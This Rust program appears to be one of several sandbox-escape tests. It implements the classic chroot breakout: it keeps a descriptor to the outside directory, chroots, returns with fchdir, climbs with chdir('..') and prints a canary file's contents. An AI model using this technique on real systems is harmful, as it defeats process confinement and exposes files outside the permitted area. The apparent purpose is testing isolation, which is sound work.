//! Another way: an open directory remembers where outside is, and the canary is reached
//! from the top without making it a root.

use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, fchdir};

fn main() {
    let canary = std::env::args().nth(1).expect("a path");
    let here = open(".", OFlag::O_RDONLY | OFlag::O_DIRECTORY, Mode::empty()).unwrap();
    let _ = std::fs::create_dir("hole");
    chroot("hole").unwrap();
    chdir("/").unwrap();
    fchdir(&here).unwrap();
    for _ in 0..1024 {
        chdir("..").unwrap();
    }
    eprintln!("outside, it seems");
    print!("{}", std::fs::read_to_string(format!(".{canary}")).unwrap());
}
